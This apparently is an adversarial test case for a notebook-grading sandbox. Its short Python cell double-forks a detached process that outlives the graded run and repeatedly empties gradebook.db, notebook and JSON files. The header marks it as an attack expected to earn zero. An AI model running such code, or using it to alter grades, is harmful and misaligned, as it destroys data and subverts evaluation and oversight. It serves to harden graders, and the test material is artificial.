# title: leaves a process behind that changes every mark later
# kind: attack
# status: graded | tampered | crashed | timed out
# earns: 0
# base: stubs
# uses: hunt

# %% first
import os
import time

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for _ in range(40):
            time.sleep(0.5)
            for path in hunt("gradebook.db", "*.ipynb", "*.json", seconds=0.1):
                try:
                    open(path, "w").close()
                except OSError:
                    pass
    os._exit(0)
